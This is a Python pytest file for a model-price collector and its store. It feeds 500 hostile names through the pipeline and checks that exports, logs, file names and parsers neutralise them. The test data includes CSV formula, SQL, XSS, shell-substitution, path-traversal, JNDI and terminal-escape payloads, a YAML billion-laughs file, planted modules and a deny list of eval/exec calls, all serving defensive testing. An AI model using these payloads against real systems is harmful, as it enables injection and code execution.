"""Text from upstream that is out to do harm: 500 names through the whole pipe and out of every door, exactly.

And what lies in wait outside: in files that configure, in the working folder, in patterns of our own.
"""

import ast
import asyncio
import csv
import importlib
import io
import itertools
import json
import os
import pickle
import pkgutil
import re
import string
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

import collector
import store
from collector.cli import CONFIG_PATH, main
from collector.config import load
from collector.contract import PriceSpec, SourceSpec
from collector.errors import SourceChanged
from collector.fetch import Fetcher
from collector.poll import Poller, Report
from collector.sighting import Received
from collector.sources import parser_of
from store import catalogue, columns
from store.doors import Doors
from store.errors import QueryError
from store.read import open_store
from store.records import Document
from store.text import printable
from store.write import Tape
from tests.collecting import TOKENTAPE, environ
from tests.stores import tables
from tests.tape import hour

ROOT = Path(__file__).parent.parent
_HEADS = ("", "=", "+", "-", "@", "=-", "'", "a", "a\t", "+1", "@@")
_BODIES = (
    "cmd|' /C calc'!A0", 'HYPERLINK("https://x.example/?"&A1)', "\x1b]0;owned\x07", "\x1b[2J\x1b[1;1H", "\x9b31m",
    "\x1b]8;;https://x.example\x1b\\here\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "back\b\b\bspace", "a\rb", "a\r\nb",
    "a\nFAILED forged line", "nul\x00nul", "\u202egpj.exe", "\u2066iso\u2069", "zero\u200bwidth", "\ufeffmark",
    "line\u2028separator\u2029", '"quo""ted"', ",comma,", ";semi;", "'; DROP TABLE endpoint; --", '" OR ""="',
    "Robert'); DELETE FROM poll;--", ":model", "%s %(x)s {0} {x!r}", "$1", "?", "%", "_", "100%_", "\\", "\\%", "!%!_",
    "^(a+)+$", "[a-z]*", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "&lt;b&gt;", "<!--", "]]>", "../../etc/passwd", "/etc/passwd", "..\\..\\x", "CON", "~/.bashrc", "$(touch owned)",
    "`id`", "|ls",
    "\u00e9\u0301\u0327", "\U0001f469\u200d\U0001f4bb", "\uff11\uff12", "x" * 700, "{{7*7}}", "${jndi:ldap://x}",
)  # fmt: skip
HOSTILE = tuple({f"{head}{body}".strip(): None for head, body in itertools.product(_HEADS, _BODIES)})[:500]
SPEC = SourceSpec(
    id="acme",
    title="Acme",
    parser="json_list",
    url="https://acme.example/models",
    trust="first-party",
    every_s=3600,
    records="data",
    model="id",
    provider_at="by",
    tag_at="tag",
    prices=(PriceSpec(meter="input", at="in", unit="USD/1M_token"),),
    facts={"quantization": "quant", "status": "status", "licence": "licence", "features": "features"},
)


def record(name: str) -> dict[str, object]:
    """A record that is hostile wherever it has a text."""
    return {
        "id": name, "by": name, "tag": name, "in": "1.5", "quant": name, "status": name, "licence": name,
        "features": [name],
    }  # fmt: skip


def taken(tape: Tape, count: int) -> Report:
    """What comes of a poll that got a list of such records."""
    config = replace(load(None, {}), sources={"acme": SPEC})

    async def take() -> Report:
        at = hour(count)
        body = json.dumps({"data": [*map(record, HOSTILE)]}).encode()
        document = Document(source="acme", url=SPEC.url, fetched_at=at, status=200, body=body)
        async with Fetcher(config.http, lambda: at) as fetcher:
            poller = Poller(config, tape, fetcher, clock=lambda: at, environ={})
            return poller.take(SPEC, at, Received(documents=(document,), failures={}))

    return asyncio.run(take())


def asked(url: str, *words: str) -> Result:
    """What a command answers, without a configuration of the user's own."""
    doors = Doors(url, now=lambda: hour(2))
    parent = click.Context(main, obj=doors)
    parent.meta[CONFIG_PATH] = None
    command = main.get_command(parent, words[0])
    assert command is not None
    return CliRunner().invoke(command, words[1:], parent=parent, catch_exceptions=False)


def unprinted(text: str) -> set[str]:
    """Characters that a terminal, or a reader of lines, would obey."""
    return {char for char in text.replace("\n", "") if not char.isprintable()}


def shown(name: str) -> str:
    """A name as it may be stored: printed, and no longer than names are."""
    return printable(name)[:512]


@pytest.mark.fault(176, 177, 178, 179, 180, 181)
def test_hostile_names_pass_the_whole_pipe_and_come_out_of_every_door_as_they_were(store_url: str) -> None:
    assert len({*HOSTILE}) == 500
    tape = Tape(store_url)
    try:
        report = taken(tape, 0)
        assert report.outcome == "ok", report.line
        assert taken(tape, 1).changes == 0
    finally:
        tape.close()
    before = tables(store_url)
    spoken = {name for name in HOSTILE if shown(name) == name}
    for form in ("csv", "jsonl"):
        out = asked(store_url, "export", "current", "--format", form, "--raw").stdout
        lines = csv.DictReader(io.StringIO(out, newline="")) if form == "csv" else map(json.loads, out.splitlines())
        found = [line["endpoint"] for line in lines]
        assert sorted(found) == sorted(f"{name}@{name}" for name in spoken), form
    held = [json.loads(line) for line in asked(store_url, "held", "--format", "jsonl").stdout.splitlines()]
    assert len({row["subject"] for row in held if row["rule"] == "name"}) > 100
    for words in (
        ("export", "current"), ("export", "history"), ("export", "changes"), ("models",), ("changes",), ("held",),
        ("conflicts",), ("audit-catalogue", "acme"),
    ):  # fmt: skip
        for form in ("csv", "jsonl") if words[0] == "export" else ("table", "csv", "json"):
            result = asked(store_url, *words, "--format", form)
            assert not unprinted(result.output), (words, form)
            if form == "csv":
                rows = csv.reader(io.StringIO(result.stdout))
                cells = [cell for row in rows for cell in row if not re.fullmatch(r"-?[0-9.]+", cell)]
                assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], words
    assert tables(store_url) == before


@pytest.mark.fault(180, 181)
def test_what_is_asked_for_is_a_value_and_finds_what_it_says_and_nothing_else(store_url: str) -> None:
    tape = Tape(store_url)
    try:
        taken(tape, 0)
    finally:
        tape.close()
    with open_store(store_url) as reader:
        every = [row.model for row in catalogue.models(reader, "", hour(1))]
        assert len(every) > 100
        for name in HOSTILE:
            if "\x00" in name:  # which no text of a store has
                with pytest.raises(QueryError, match="NUL"):
                    catalogue.models(reader, name, hour(1))
                continue
            found = [row.model for row in catalogue.models(reader, name, hour(1))]
            if name.isascii():
                assert found == [model for model in every if name.lower() in model], name
    for words in (("endpoints",), ("history",), ("explain",), ("cheapest",), ("conflicts",), ("models",)):
        for name in HOSTILE[:: 12 if words == ("endpoints",) else 60]:
            result = asked(store_url, *words, "--", name)
            assert result.exit_code in {0, 2, 3}, (words, name)
            assert not unprinted(result.output), (words, name)


@pytest.mark.fault(180)
@pytest.mark.parametrize(
    "words",
    [
        ("conflicts", "--sort", "model; DROP TABLE poll"),
        ("conflicts", "--kind", "1=1"),
        ("conflicts", "--min-ratio", "1 OR 1"),
        ("export", "current; DROP TABLE poll"),
        ("audit-catalogue", "x.csv", "--kind", "'"),
    ],
)
def test_orders_and_kinds_are_words_of_a_list(tmp_path: Path, words: tuple[str, ...]) -> None:
    assert asked(str(tmp_path / "tape.db"), *words).exit_code == 2


@pytest.mark.fault(176)
def test_no_header_of_an_answer_begins_like_a_formula() -> None:
    answers = [value for name, value in vars(columns).items() if name.isupper() and isinstance(value, tuple)]
    names = [column.name for answer in answers for column in answer if isinstance(column, columns.Column)]
    assert len(names) > 100
    assert not [name for name in names if not re.fullmatch(r"[a-z][a-z0-9_]*", name)]


# --- lines of a log ---


@pytest.mark.fault(185)
@pytest.mark.parametrize("evil", ["a\nacme: ok, 9 endpoints", "a\r\x1b[2Kacme: ok", "a\u2028acme: ok", "a\x00"])
def test_a_name_cannot_forge_a_line_of_the_log(evil: str) -> None:
    error = SourceChanged(f"acme: {evil}: wanted a price")
    for outcome in ("failed", "partial"):
        line = Report(source="acme", outcome=outcome, at=hour(0), code="schema", message=str(error)).line
        assert len(line.splitlines()) == 1
        assert not unprinted(line)


# --- names of files ---


@pytest.mark.fault(183)
def test_an_export_is_the_file_that_was_named_or_a_line_says_why_not(tmp_path: Path) -> None:
    url = str(tmp_path / "tape.db")
    tape = Tape(url)
    try:
        taken(tape, 0)
    finally:
        tape.close()
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "link").symlink_to(folder / "nowhere" / "file")
    for name in ("x" * 4000, "a/b/c", "link", "."):
        result = asked(url, "export", "current", "-o", str(folder / name))
        assert (result.exit_code, result.stdout) == (2, ""), name[:20]
        assert not unprinted(result.stderr)
    for name in ("=x", "-x", "\x1b[2J", "\u202e", "%s", "a;b", "~"):
        assert asked(url, "export", "current", "-o", str(folder / name)).exit_code == 0
    assert {path.name for path in folder.iterdir()} == {"link", "=x", "-x", "\x1b[2J", "\u202e", "%s", "a;b", "~"}
    assert asked(url, "export", "current", "-o", "/dev/null").exit_code == 0
    full = asked(url, "export", "current", "-o", "/dev/full")
    assert (full.exit_code, full.stderr.count("\n")) == (2, 1)


@pytest.mark.fault(183)
def test_no_name_of_anybody_becomes_the_name_of_a_file(tmp_path: Path) -> None:
    tape = Tape(str(tmp_path / "store" / "tape.db"))
    try:
        documents = [
            Document(
                source="acme", url=f"https://x.example/{name}", fetched_at=hour(0), status=200, body=b"{}", part=name
            )
            for name in ("", "../../owned", "/tmp/owned", "a\x00b", "x" * 4000)
        ]
        tape.archive.keep(documents)
    finally:
        tape.close()
    allowed = set(string.ascii_lowercase + string.digits + ".-")
    names = [path.relative_to(tmp_path).parts for path in tmp_path.rglob("*")]
    assert all(set(part) <= allowed for parts in names for part in parts)
    assert all(parts[0] == "store" for parts in names)


# --- patterns of our own ---


def modules() -> Iterator[str]:
    for package in (collector, store):
        for found in pkgutil.walk_packages(package.__path__, f"{package.__name__}."):
            if ".migrations" not in found.name:
                yield found.name


def patterns() -> Iterator[tuple[str, re.Pattern[str]]]:
    """Every pattern that a module has under a name, also those in lists and tables of them."""
    for name in modules():
        for label, value in vars(importlib.import_module(name)).items():
            waiting: list[object] = [value]
            while waiting:
                one = waiting.pop()
                if isinstance(one, re.Pattern) and isinstance(one.pattern, str):
                    yield f"{name}.{label}", one
                elif isinstance(one, tuple | list):
                    waiting.extend(one)
                elif isinstance(one, dict):
                    waiting.extend(one.values())


@pytest.mark.fault(182)
def test_no_pattern_of_ours_takes_long_for_any_text_of_the_length_that_it_is_given() -> None:
    """A name has 512 characters, a price 64; pages are read by a parser, not by patterns."""
    pieces = (
        "a",
        "0",
        " ",
        "-",
        "/",
        ".",
        "0.",
        "a-",
        "1e",
        "$0.",
        "a ",
        "(",
        '"',
        "\t\n",
        "x:",
        "free-",
        "1,0",
        "above ",
    )
    found = dict(patterns())
    assert len(found) > 60
    for name, pattern in found.items():
        for piece in pieces:
            for text in (f"{(piece * 512)[:512]}\x00", f"< 1{(piece * 512)[:512]}\x00"):
                took = []
                for _ in range(3):
                    start = time.process_time()
                    pattern.fullmatch(text)
                    pattern.search(text)
                    took.append(time.process_time() - start)
                    if took[-1] < 0.05:
                        break
                assert min(took) < 0.05, (name, piece)


# --- code from elsewhere ---


@pytest.mark.fault(197)
def test_nothing_in_the_working_folder_is_run(tmp_path: Path) -> None:
    planted = "import pathlib; pathlib.Path(__file__).with_name('owned').write_text('x')\n"
    for name in (
        "yaml",
        "httpx",
        "click",
        "json",
        "sitecustomize",
        "usercustomize",
        "collector",
        "store",
        "litellm",
        "acme",
    ):
        (tmp_path / f"{name}.py").write_text(planted)
    (tmp_path / "tape.pickle").write_bytes(pickle.dumps({}))
    done = subprocess.run(
        [TOKENTAPE, "sources"], cwd=tmp_path, env=environ(tmp_path), capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "owned").exists()


@pytest.mark.fault(197)
@pytest.mark.parametrize("parser", ["os", "acme", "../acme", "collector.cli", "acme.py", "__init__", "litellm:run", ""])
def test_only_a_parser_that_lies_in_the_program_is_ever_imported(parser: str) -> None:
    with pytest.raises(ValueError, match="no parser"):
        parser_of(replace(SPEC, parser=parser))


FORBIDDEN = {
    "eval",
    "exec",
    "compile",
    "__import__",
    "marshal.load",
    "marshal.loads",
    "yaml.unsafe_load",
    "yaml.full_load",
}


PICKLED = {"parsing.py": {"pickle"}}
"""Between our own two processes, and into our own dataclasses alone (see `tests/test_parsing.py`)."""


@pytest.mark.fault(197)
def test_no_text_becomes_code() -> None:
    importing = set()
    for path in [*(ROOT / "collector").rglob("*.py"), *(ROOT / "store").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                named = [alias.name for alias in node.names] + [getattr(node, "module", None) or ""]
                found = {"pickle", "shelve", "dill", "code", "runpy"} & {*named}
                assert found <= PICKLED.get(path.name, set()), path
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in {"eval", "exec", "compile", "__import__", "yaml.unsafe_load", "yaml.full_load"}, (
                    path
                )
                importing |= {path.relative_to(ROOT).as_posix()} if called.endswith("import_module") else set()
    # Names of our own, and of a list of modules that are ours.
    assert importing == {
        "collector/cli.py",
        "collector/parsing.py",
        "collector/sources/__init__.py",
        "store/__init__.py",
    }


@pytest.mark.fault(196)
def test_a_file_that_would_grow_without_end_is_refused_at_once(tmp_path: Path) -> None:
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{new}: &{new} [{','.join([f'*{old}'] * 9)}]\n" for old, new in itertools.pairwise("abcdefghi")
    )
    path = tmp_path / "tokentape.yaml"
    path.write_text(laughs)
    done = subprocess.run(
        [sys.executable, "-c", "from collector.cli import run; run()", "--config", path, "sources"],
        cwd=ROOT, env=environ(tmp_path) | {"PYTHONPATH": os.fspath(ROOT)}, capture_output=True, text=True, check=False,
        timeout=20,
    )  # fmt: skip
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == f"tokentape: {path}:1: anchors and aliases are not allowed\n"
